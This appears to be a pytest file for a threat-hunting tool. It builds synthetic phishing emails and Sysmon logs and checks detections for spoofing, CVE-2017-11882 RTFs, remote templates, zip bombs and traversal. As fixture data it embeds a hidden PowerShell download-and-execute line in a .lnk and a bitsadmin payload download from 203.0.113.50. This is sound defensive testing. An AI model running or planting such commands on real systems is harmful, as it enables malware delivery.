"""Generated mails through ``hunt``: each attachment, sender and chain analytic gives the
expected finding; the zip bomb and the traversal names stay inside the case's limits."""

from __future__ import annotations

import hashlib
from pathlib import Path

import orjson
import pytest

from tests.fixtures import maldocs as M
from tidehunt.context import RunContext
from tidehunt.engine import HuntOptions, hunt

TO = "j.smith@corp.example, k.lee@corp.example"
OK = "spf=pass dkim=pass dmarc=pass"
ORG = """own_domains: [corp.example]
partner_domains: [maritime-review.example]
trusted:
  - name: Maritime Review
    domains: [maritime-review.example]
  - name: Australian Navy Liaison
    addresses: [liaison@navy.example]
"""
HOST = "WS-ANALYST01.corp.example"
LURE = "Fleet_Survey_2026.rtf"


def _d(day: int, hour: int = 1) -> str:
    return f"Mon, {day:02d} Mar 2026 {hour:02d}:14:00 +0000"


def _mails() -> dict[str, bytes]:
    e = M.eml
    return {
        # history: the partner writing normally a week before
        "history.eml": e("Weekly", "Maritime Review <news@maritime-review.example>", TO,
                         "https://www.maritime-review.example/weekly", auth=OK, date=_d(2)),
        "lookalike.eml": e("Call for papers", "Editor <ed@maritime-reveiw.example>", TO,
                           "See https://maritime-reveiw.example/cfp", auth=OK, date=_d(10)),
        "spoof.eml": e("Partnership", "Maritime Review <press@mail.example>", TO, "hello",
                       auth=OK, date=_d(10, 2)),
        "spoof_person.eml": e("Liaison visit", "Australian Navy Liaison <nl@post.example>",
                              TO, "agenda follows", auth=OK, date=_d(10, 3)),
        "dmarc.eml": e("Invoice", "Billing <billing@maritime-review.example>", TO, "pay",
                       auth="spf=fail dkim=none dmarc=fail", date=_d(10, 4)),
        "eqnedt.eml": e("Fleet survey", "Survey <survey@port-authority.example>", TO,
                        "Please fill in the survey.", [(LURE, M.rtf_equation_editor(),
                                                       "application/rtf")],
                        auth=OK, date=_d(11)),
        "template.eml": e("Research paper draft", "Dr A <a@uni.example>", TO, "draft",
                          [("Draft_Research_Paper.docx", M.docx_remote_template(),
                            "application/vnd.openxmlformats-officedocument."
                            "wordprocessingml.document")], auth=OK, date=_d(11, 2)),
        "zip_lnk.eml": e("CV", "Applicant <cv@jobs.example>", TO,
                         "My CV is attached. Password: Cv-2026!",
                         [("CV.zip", M.zip_with({"CV.pdf.lnk": M.lnk(
                             r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-nop -w hidden -c iwr http://203.0.113.50/a|iex")},
                             password="Cv-2026!"), "application/zip")],
                         auth=OK, date=_d(11, 3)),
        "bomb.eml": e("Manifest", "Ops <ops@port.example>", TO, "manifest",
                      [("manifest.zip", M.zip_bomb(), "application/zip")], auth=OK,
                      date=_d(11, 4)),
        "traversal.eml": e("Logs", "Ops <ops@port.example>", TO, "logs",
                           [("logs.zip", M.zip_traversal(), "application/zip")], auth=OK,
                           date=_d(11, 5)),
        "internal.eml": e("Conference invitation", "Rachel Lee <r.lee@corp.example>", TO,
                          "Register here: https://drive.google.com/file/d/abc/view",
                          auth=OK, date=_d(11, 6)),
    }


def _sysmon(ts: str, rid: int, eid: int, data: dict[str, str]) -> bytes:
    ev = {"Event": {"System": {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": eid,
        "TimeCreated": {"#attributes": {"SystemTime": ts}}, "EventRecordID": rid,
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": HOST},
        "EventData": data}}
    return orjson.dumps(ev) + b"\n"


@pytest.fixture(scope="module")
def phish(tmp_path_factory):
    root = tmp_path_factory.mktemp("phish")
    ev = root / "evidence"
    (ev / "mail").mkdir(parents=True)
    for name, data in _mails().items():
        (ev / "mail" / name).write_bytes(data)
    office = r"C:\Program Files\Microsoft Office\root\Office16"
    path = rf"C:\Users\j.smith\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\X1\{LURE}"
    (ev / "sysmon.json").write_bytes(b"".join([
        _sysmon("2026-03-11T01:20:05Z", 1, 11, {"Image": office + r"\OUTLOOK.EXE",
                                                 "TargetFilename": path}),
        _sysmon("2026-03-11T01:20:09Z", 2, 1, {
            "Image": r"C:\Program Files\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE",
            "CommandLine": "EQNEDT32.EXE -Embedding", "ParentImage": r"C:\Windows\svchost.exe"}),
        _sysmon("2026-03-11T01:21:30Z", 3, 1, {
            "Image": r"C:\Windows\System32\bitsadmin.exe",
            "CommandLine": "bitsadmin /transfer j http://203.0.113.50/a.exe C:\\a.exe",
            "ParentImage": r"C:\Program Files\Common Files\Microsoft Shared\EQUATION"
                           r"\EQNEDT32.EXE"}),
        _sysmon("2026-03-12T09:00:00Z", 4, 1, {  # a day later: not part of the chain
            "Image": r"C:\Windows\System32\cmd.exe", "CommandLine": "cmd /c dir",
            "ParentImage": r"C:\Windows\explorer.exe"}),
    ]))
    org = root / "org.yaml"
    org.write_text(ORG, encoding="utf-8")
    case = root / "case"
    report = hunt([str(ev)], case, RunContext(), HuntOptions(workers=1, org=str(org)))
    findings = [orjson.loads(x) for x in (case / "findings.jsonl").read_bytes().splitlines()]
    return case, report, findings


def _by(findings, rule):
    return [f for f in findings if f["rule_id"] == rule]


def test_no_analytic_failed(phish):
    _, report, _ = phish
    assert report.stats["analytics"]["failed"] == []


def test_lookalike_sender_and_link_domain(phish):
    hits = _by(phish[2], "th-analytic-0022")
    assert [f["dst"] for f in hits] == ["maritime-reveiw.example"]
    assert "from/link domain" in hits[0]["summary"]


def test_display_name_spoof_of_trusted_org_and_person(phish):
    hits = _by(phish[2], "th-analytic-0029")
    srcs = {f["src"] for f in hits}
    assert srcs == {"press@mail.example", "nl@post.example"}
    assert all(f["level"] == "high" for f in hits)
    org = next(f for f in hits if f["src"] == "press@mail.example")
    assert "names the trusted Maritime Review" in org["summary"]


def test_dmarc_failure(phish):
    hits = [f for f in _by(phish[2], "th-analytic-0023") if "billing@" in (f["src"] or "")]
    assert hits and "dmarc fail" in hits[0]["summary"].lower()


def test_rtf_equation_editor_and_its_host_chain(phish):
    ex = [f for f in _by(phish[2], "th-analytic-0024") if LURE in f["summary"]]
    assert len(ex) == 1 and ex[0]["level"] == "critical"
    assert "CVE-2017-11882" in ex[0]["summary"]
    chain = _by(phish[2], "th-analytic-0032")
    assert len(chain) == 1
    c = chain[0]
    assert c["host"] == HOST and c["level"] == "critical"
    assert "EQNEDT32.EXE, bitsadmin.exe" in c["summary"] and "cmd.exe" not in c["summary"]
    tables = [e["table"] for e in c["evidence"]]
    assert tables[0] == "mail" and tables.count("windows") == 3


def test_remote_template_docx(phish):
    hits = _by(phish[2], "th-analytic-0026")
    assert len(hits) == 1 and "http://203.0.113.50/Normal.dotm" in hits[0]["summary"]
    assert "lure themes: research" in hits[0]["summary"]


def test_password_zip_with_lnk(phish):
    box = [f for f in _by(phish[2], "th-analytic-0028") if f["dst"] == "CV.zip"]
    assert box and box[0]["level"] == "high" and "'Cv-2026!'" in box[0]["summary"]
    lnk = [f for f in _by(phish[2], "th-analytic-0027") if f["dst"] == "CV.pdf.lnk"]
    assert lnk and "powershell.exe" in lnk[0]["summary"]
    assert "double_extension" in lnk[0]["summary"]


def test_zip_bomb_and_traversal_stay_inside_limits(phish):
    case, _, findings = phish
    kinds = {f["dst"]: f["summary"] for f in _by(findings, "th-analytic-0028")}
    assert "decompression bomb" in kinds["manifest.zip"]
    assert "path traversal" in kinds["logs.zip"]
    extracted = case / "extracted"
    files = [p for p in extracted.rglob("*") if p.is_file()]
    # content-addressed copies only, none of the bomb's 256 MiB, nothing named by the mail
    assert all(p.name == hashlib.sha256(p.read_bytes()).hexdigest() for p in files)
    assert sum(p.stat().st_size for p in files) < 8 << 20
    assert not list(case.parent.rglob("evil*"))
    work = extracted / ".work"
    assert not work.exists() or not list(work.iterdir())  # temporary copies are gone


def test_first_seen_domain_after_history(phish):
    hits = _by(phish[2], "th-analytic-0030")
    doms = {f["dst"] for f in hits}
    assert "port-authority.example" in doms and "maritime-review.example" not in doms
    eq = next(f for f in hits if f["dst"] == "port-authority.example")
    assert eq["level"] == "medium"  # its attachment was flagged


def test_internal_spearphish(phish):
    hits = _by(phish[2], "th-analytic-0031")
    assert [f["src"] for f in hits] == ["r.lee@corp.example"]
    assert "drive.google.com" in hits[0]["summary"]


def test_attachments_are_in_the_file_table(phish):
    from tidehunt.case.store import CaseStore

    store = CaseStore(phish[0])
    rows = store.sql("SELECT name, kind, origin FROM file WHERE origin = 'mail'").to_pylist()
    names = {r["name"] for r in rows}
    assert {LURE, "CV.zip", "CV.pdf.lnk", "manifest.zip"} <= names
    assert Path(phish[0] / "org.yaml").is_file()  # the profile is kept for later runs
